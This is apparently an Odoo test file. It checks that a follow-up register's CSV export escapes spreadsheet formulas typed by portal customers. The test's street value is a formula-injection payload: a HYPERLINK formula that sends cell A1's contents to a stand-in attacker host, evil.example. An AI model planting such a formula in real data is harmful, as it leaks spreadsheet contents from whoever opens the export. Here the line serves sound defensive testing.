"""Issue 27, hostile input: the register's export never writes a cell a spreadsheet
would run as a formula, even for the street a customer typed on the portal."""

import base64
import csv
import io
import re

from odoo.tests import HttpCase, tagged

from odoo.addons.followup_manager.tests.common import CSRF_RE
from odoo.addons.mail.tests.common import mail_new_test_user

from .test_register import RegisterCase

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@tagged("post_install", "-at_install")
class TestHostileRegisterExport(RegisterCase, HttpCase):
    def test_a_street_typed_on_the_portal_is_never_run_by_a_spreadsheet(self):
        portal_user = mail_new_test_user(
            self.env, login="fm_portal_it", name="Piero Portale", groups="base.group_portal"
        )
        partner = portal_user.partner_id
        partner.write({"country_id": self.italy.id})
        street = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
        values = {
            "name": "Piero Portale",
            "email": "piero@example.com",
            "phone": "+39 06 4991 0009",
            "street": street,
            "city": "Roma",
        }
        if self.env["ir.module.module"]._get("portal").state == "installed":
            # Typed by the customer on the portal's account page.
            self.authenticate(portal_user.login, portal_user.login)
            page = self.url_open("/my/account")
            csrf = CSRF_RE.search(page.text).group(1)
            form = {**values, "zipcode": "00184", "country_id": str(self.italy.id)}
            self.url_open("/my/account", data={"csrf_token": csrf, **form})
        else:
            # No portal (this add-on does not need it): the same street, saved as the
            # customer would have typed it.
            partner.write({**values, "zip": "00184"})
        partner.invalidate_recordset()
        self.assertEqual(partner.street, street, "saved as typed")
        with self._at(self.MONDAY_10_ROME):
            action = partner.with_user(self.user_manager).action_followup_rpo_export()
        wizard = self.env["followup.rpo.export"].browse(action["res_id"])
        rows = list(
            csv.reader(
                io.StringIO(base64.b64decode(wizard.file).decode(), newline=""), delimiter=";"
            )
        )
        values = [value for _kind, value in rows[1:]]
        self.assertIn("'" + street.upper() + ", 00184 ROMA", values)
        for value in values:
            # A number in E.164 (+ and digits) is a number for a spreadsheet.
            with self.subTest(value=value):
                self.assertTrue(
                    re.fullmatch(r"\+[0-9]+", value) or not value.startswith(FORMULA_STARTS)
                )
